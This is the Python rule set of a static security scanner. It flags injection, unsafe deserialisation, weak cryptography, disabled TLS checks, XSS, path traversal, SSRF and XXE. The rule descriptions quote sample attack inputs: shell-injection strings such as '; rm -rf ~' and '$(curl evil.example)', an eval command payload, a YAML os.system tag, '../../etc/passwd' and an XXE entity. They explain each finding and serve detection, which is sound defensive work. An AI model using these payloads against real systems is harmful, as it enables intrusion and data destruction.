"""What the red team looks for in Python."""

import re
from collections.abc import Iterator

from tree_sitter import Node

from moot.scan.calls import Call, imports, modules, qualified
from moot.scan.rule import CallRule, Check, Match, Rule, on
from moot.scan.rules.when import (
    PASSWORD,
    SECRET_USE,
    about,
    always,
    built,
    built_sql,
    either,
    every,
    from_outside,
    not_about,
    option,
    text_is,
    varying,
    without,
)
from moot.scan.strings import unwrapped
from moot.scan.syntax import Source, nth
from moot.scan.values import constant

SAFE_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader", "FullLoader")

SQL = Rule(
    "python-sql-string", "injection", "critical", 89,
    "An SQL text is put together from strings and values before it is executed.",
    "A value of \"' OR '1'='1\" changes what the statement selects; '; DROP TABLE …' may run a second one.",
    "Pass the values as parameters of execute(), outside the SQL text.", 0.85,
)  # fmt: skip
SHELL = Rule(
    "python-shell", "injection", "critical", 78,
    "A command line that is not constant goes through a shell.",
    "A value of '; rm -rf ~' or '$(curl evil.example)' runs as a command of its own.",
    "Give the program and its arguments as a list, without a shell.", 0.85,
)  # fmt: skip
OS_SYSTEM = Rule(
    "python-os-system", "injection", "critical", 78,
    "os.system or a relative hands a command line that is not constant to a shell.",
    "A value of '; rm -rf ~' runs as a command of its own.",
    "Use subprocess.run with a list of arguments.", 0.85,
)  # fmt: skip
EVAL = Rule(
    "python-eval", "injection", "critical", 95,
    "Text that is not constant is evaluated as Python code.",
    "A value of \"__import__('os').system('id')\" runs any command.",
    "Use ast.literal_eval for literals, json for data, or a table of the allowed operations.", 0.8,
)  # fmt: skip
YAML = Rule(
    "python-yaml-load", "injection", "high", 502,
    "yaml.load without a safe loader builds any Python object the document names.",
    "A document of '!!python/object/apply:os.system [id]' runs a command.",
    "Use yaml.safe_load.", 0.9,
)  # fmt: skip
PICKLE = Rule(
    "python-pickle", "injection", "high", 502,
    "Unpickling runs whatever code the pickled bytes ask for.",
    "Bytes whose __reduce__ names os.system run a command when they are loaded.",
    "Use json or another format that holds only data, or check a signature first.", 0.6,
)  # fmt: skip
PASSWORD_HASH = Rule(
    "python-password-hash", "auth", "high", 916,
    "A password is hashed with MD5 or SHA-1, which can be tried billions of times a second.",
    "A leaked table of hashes is reversed with a word list in minutes.",
    "Use a slow, salted function: hashlib.scrypt, bcrypt or argon2, with a random salt kept beside each hash.", 0.85,
)  # fmt: skip
HASH = Rule(
    "python-weak-hash", "auth", "low", 327,
    "MD5 and SHA-1 are broken: two inputs with the same hash can be made.",
    "Where the hash stands for the content, a second content with the same hash takes its place.",
    "Use hashlib.sha256, or say usedforsecurity=False where it is no matter of security.", 0.6,
)  # fmt: skip
CIPHER = Rule(
    "python-weak-cipher", "auth", "high", 327,
    "The cipher or its mode is broken (DES, RC4, Blowfish, ECB).",
    "Equal blocks stay equal under ECB; DES keys are tried out in hours.",
    "Use AES-GCM or ChaCha20-Poly1305.", 0.8,
)  # fmt: skip
MKTEMP = Rule(
    "python-mktemp", "race_condition", "medium", 377,
    "tempfile.mktemp returns a name that somebody else can create first.",
    "A link put there in between makes the program write to a file of the attacker's choice.",
    "Use tempfile.mkstemp, NamedTemporaryFile or a private mkdtemp.", 0.9,
)  # fmt: skip
TLS = Rule(
    "python-tls-verify", "auth", "high", 295,
    "The certificate of the other side is not checked.",
    "Anyone on the way reads and changes the traffic with a certificate of their own.",
    "Leave certificate checks on; trust a private authority by verify='ca.pem'.", 0.9,
)  # fmt: skip
DEBUG = Rule(
    "python-debug", "other", "high", 489,
    "The debugger of the web framework is on; it lets a visitor run code.",
    "An error page offers an interactive console.",
    "Turn debug off; read it from the environment where it is needed.", 0.8,
)  # fmt: skip
RANDOM = Rule(
    "python-weak-random", "auth", "high", 330,
    "A secret is made with the random module, whose output can be predicted.",
    "After a few hundred observed values the next tokens are known.",
    "Use the secrets module.", 0.7,
)  # fmt: skip
TEMPLATE = Rule(
    "python-template-string", "injection", "critical", 1336,
    "A template is built from values, so they can hold template code.",
    "A value of '{{ config }}' prints secrets; longer ones run commands.",
    "Keep the template constant and pass values as its variables.", 0.8,
)  # fmt: skip
MARKUP = Rule(
    "python-markup", "xss", "high", 79,
    "Text that is not constant is marked as safe HTML.",
    "A value of '<script>…</script>' runs in the visitor's browser.",
    "Escape the value (markupsafe.escape, format_html) before it is marked safe.", 0.7,
)  # fmt: skip
AUTOESCAPE = Rule(
    "python-autoescape", "xss", "high", 79,
    "The template engine's escaping is off.",
    "A value of '<script>…</script>' runs in the visitor's browser.",
    "Set autoescape=True or select_autoescape().", 0.8,
)  # fmt: skip
RESPONSE = Rule(
    "python-response-xss", "xss", "high", 79,
    "Outside data is put into an HTML answer as it came.",
    "A link with '<script>…</script>' in it runs script in the visitor's browser.",
    "Escape the value (markupsafe.escape) or render a template.", 0.7,
)  # fmt: skip
PATH = Rule(
    "python-path", "injection", "high", 22,
    "Outside data decides which file is used.",
    "A name of '../../etc/passwd' leaves the intended folder.",
    "Take os.path.basename or secure_filename of the name, or check the resolved path against the folder.", 0.7,
)  # fmt: skip
SSRF = Rule(
    "python-ssrf", "injection", "high", 918,
    "Outside data decides which address the server asks.",
    "A URL of 'http://169.254.169.254/' fetches what only the server may see.",
    "Check the host against a list of allowed ones.", 0.6,
)  # fmt: skip
REDIRECT = Rule(
    "python-open-redirect", "injection", "medium", 601,
    "Outside data decides where the visitor is sent.",
    "A link to this site ends on the attacker's page.",
    "Redirect to paths of your own only.", 0.6,
)  # fmt: skip
CTYPES = Rule(
    "python-raw-memory", "overflow", "high", 119,
    "ctypes touches raw memory; nothing checks the bounds.",
    "A length or address from outside reads or overwrites other memory.",
    "Use bytes, bytearray or memoryview, or check the length against the buffer first.", 0.7,
)  # fmt: skip
SWALLOWED = Rule(
    "python-swallowed-error", "logic_error", "medium", 390,
    "Every error is caught and thrown away.",
    "A failed check or write goes on as if it had worked.",
    "Catch the one error that is expected, and log or raise the rest.", 0.7,
)  # fmt: skip
XML = Rule(
    "python-xxe", "injection", "high", 611,
    "The XML parser is told to follow entities or load from the network.",
    "A document with <!ENTITY x SYSTEM 'file:///etc/passwd'> reads the file.",
    "Use resolve_entities=False and no_network=True, or defusedxml.", 0.8,
)  # fmt: skip


def _unsafe_loader(source: Source, call: Call) -> bool:
    loader = call.arg(1, "Loader")
    return loader is None or not qualified(source, loader).endswith(SAFE_LOADERS)


def _shell(source: Source, call: Call) -> bool:
    arg = call.arg(0, "args")
    return option("shell", "True", "1")(source, call) and arg is not None and not constant(source, arg)


def _builtin(source: Source, call: Call) -> bool:
    return not any(scope.name == call.name for scope in source.functions)


def _web_app(source: Source, call: Call) -> bool:
    return not modules(source).isdisjoint({"flask", "bottle", "quart", "dash", "werkzeug"}) or call.name == "app.run"


def _ecb(source: Source, call: Call) -> bool:
    return any(qualified(source, arg).endswith(("MODE_ECB", "modes.ECB")) for arg in call.args)


def _crypto(source: Source, call: Call) -> bool:
    return call.name.startswith(("Crypto.", "Cryptodome.", "cryptography."))


HTTP_VERBS = ".get .post .put .patch .delete .head .options .request .Client .AsyncClient .Session .stream"
HASHES = "hashlib.md5 hashlib.sha1 hashlib.new hashlib.md4 Crypto.Hash.MD5.new Crypto.Hash.SHA1.new Crypto.Hash.SHA.new"
WEAK_NEW = text_is(0, r"(?i)md4|md5|sha-?1|ripemd160")
weak_hash = every(
    without("usedforsecurity", "False"),
    either(lambda s, c: c.name != "hashlib.new", WEAK_NEW),
)

CALL_RULES: tuple[CallRule, ...] = (
    on(
        SQL,
        ".execute .executemany .executescript .raw .mogrify .exec_driver_sql .read_sql .read_sql_query .query .fetch "
        ".fetchrow .fetchval .fetchone .fetchall .RawSQL sqlalchemy.text sqlalchemy.sql.text text "
        "django.db.models.expressions.RawSQL pandas.read_sql",
        built_sql(0, "query", "sql", "statement", "operation", "raw_query"),
    ),
    on(SHELL, "subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen", _shell),
    on(SHELL, "asyncio.create_subprocess_shell", varying(0, "cmd")),
    on(
        OS_SYSTEM,
        "os.system os.popen os.popen2 os.popen3 os.popen4 popen2.popen2 popen2.popen3 popen2.popen4 commands.getoutput "
        "commands.getstatusoutput subprocess.getoutput subprocess.getstatusoutput",
        varying(0, "command", "cmd"),
    ),
    on(EVAL, "eval exec builtins.eval builtins.exec", every(varying(0), _builtin)),
    on(YAML, "yaml.load yaml.load_all", _unsafe_loader),
    on(YAML, "yaml.unsafe_load yaml.unsafe_load_all", always),
    on(
        PICKLE,
        "pickle.load pickle.loads cPickle.load cPickle.loads _pickle.loads dill.load dill.loads pickle.Unpickler "
        "cPickle.Unpickler dill.Unpickler jsonpickle.decode marshal.loads marshal.load pandas.read_pickle shelve.open",
        varying(0),
    ),
    on(PASSWORD_HASH, HASHES, every(weak_hash, about(PASSWORD))),
    on(HASH, HASHES, every(weak_hash, not_about(PASSWORD))),
    on(
        CIPHER,
        ".DES.new .DES3.new .ARC4.new .ARC2.new .Blowfish.new .XOR.new .ARC4 .Blowfish .IDEA .CAST5 .SEED "
        ".TripleDES .ECB Crypto.Cipher.DES.new Crypto.Cipher.DES3.new Crypto.Cipher.ARC4.new Crypto.Cipher.ARC2.new "
        "Crypto.Cipher.Blowfish.new Cryptodome.Cipher.DES.new Cryptodome.Cipher.DES3.new Cryptodome.Cipher.ARC4.new "
        "Cryptodome.Cipher.ARC2.new Cryptodome.Cipher.Blowfish.new Crypto.Cipher.XOR.new Cryptodome.Cipher.XOR.new",
        _crypto,
    ),
    on(CIPHER, "Crypto.Cipher.AES.new Cryptodome.Cipher.AES.new AES.new", _ecb),
    on(MKTEMP, "tempfile.mktemp os.tempnam os.tmpnam", always),
    on(TLS, HTTP_VERBS, option("verify", "False")),
    on(TLS, "ssl._create_unverified_context", always),
    on(DEBUG, ".run .Flask", every(option("debug", "True"), _web_app)),
    on(
        RANDOM,
        "random.random random.randint random.randrange random.choice random.choices random.sample random.getrandbits "
        "random.randbytes random.uniform random.shuffle random.triangular random.gauss random.normalvariate",
        about(SECRET_USE),
    ),
    on(
        TEMPLATE,
        "flask.render_template_string render_template_string jinja2.Template mako.template.Template",
        built(0, "source"),
    ),
    on(TEMPLATE, ".from_string", built(0)),
    on(
        MARKUP,
        "markupsafe.Markup flask.Markup jinja2.Markup django.utils.safestring.mark_safe "
        "django.utils.safestring.SafeText django.utils.html.mark_safe Markup mark_safe",
        varying(0),
    ),
    on(AUTOESCAPE, "jinja2.Environment jinja2.sandbox.SandboxedEnvironment", option("autoescape", "False")),
    on(
        RESPONSE,
        "flask.make_response make_response flask.Response django.http.HttpResponse HttpResponse",
        every(built(0), from_outside(0)),
    ),
    on(
        PATH,
        "open io.open codecs.open os.open os.remove os.unlink os.rmdir os.listdir os.rename shutil.rmtree "
        "shutil.copy shutil.copyfile shutil.move flask.send_file send_file os.makedirs tarfile.open zipfile.ZipFile "
        "os.mkdir pathlib.Path.open .read_text .write_text .read_bytes",
        from_outside(0),
    ),
    on(
        SSRF,
        "requests.get requests.post requests.put requests.delete requests.patch requests.head requests.request "
        "httpx.get httpx.post urllib.request.urlopen urllib.request.Request urllib.urlopen urllib2.urlopen "
        "aiohttp.request",
        from_outside(0),
    ),
    on(REDIRECT, "flask.redirect redirect django.shortcuts.redirect django.http.HttpResponseRedirect", from_outside(0)),
    on(
        CTYPES,
        "ctypes.memmove ctypes.memset ctypes.string_at ctypes.wstring_at ctypes.cast .from_address",
        lambda source, call: "ctypes" in modules(source),
    ),
    on(
        XML,
        "lxml.etree.XMLParser etree.XMLParser",
        either(option("resolve_entities", "True"), option("no_network", "False")),
    ),
    on(
        XML,
        ".setFeature",
        lambda s, c: len(c.args) == 2 and "external_ges" in s.text(c.args[0]) and s.text(c.args[1]) in ("True", "1"),
    ),
)


def swallowed(source: Source) -> Iterator[Match]:
    for clause in source.nodes("except_clause"):
        caught = clause.child_by_field_name("value")
        if caught is not None and caught.type == "as_pattern":
            caught = nth(caught, 0)
        broad = caught is None or source.text(caught) in ("Exception", "BaseException")
        body = next((child for child in clause.named_children if child.type == "block"), None)
        if broad and body is not None and _does_nothing(body):
            yield Match(SWALLOWED, clause)


def _does_nothing(block: Node) -> bool:
    kinds = []
    for statement in block.named_children:
        inner = nth(statement, 0) if statement.type == "expression_statement" else statement
        kinds.append(inner.type if inner is not None else "")
    return all(kind in ("pass_statement", "ellipsis", "comment", "continue_statement") for kind in kinds)


def tls_context(source: Source) -> Iterator[Match]:
    """`context.check_hostname = False`, `context.verify_mode = ssl.CERT_NONE` and the process-wide switch."""
    for node in source.nodes("assignment"):
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        if left is None or right is None or left.type != "attribute":
            continue
        name, value = source.text(left), source.text(unwrapped(right))
        unchecked = name.endswith(".verify_mode") and value.endswith("CERT_NONE")
        switched = name == "ssl._create_default_https_context" and value.endswith("_create_unverified_context")
        session = name.endswith(".verify") and value == "False" and "requests" in imports(source)
        if unchecked or switched or session:
            yield Match(TLS, node)


DEBUG_NAME = re.compile(r"(?:app|application)\.debug|app\.config\[['\"]DEBUG['\"]\]")


def debug_setting(source: Source) -> Iterator[Match]:
    for node in source.nodes("assignment"):
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        if left is None or right is None or left.type not in ("attribute", "subscript"):
            continue
        if source.text(right) == "True" and DEBUG_NAME.fullmatch(source.text(left)):
            yield Match(DEBUG, node)


CHECKS: tuple[Check, ...] = (swallowed, tls_context, debug_setting)
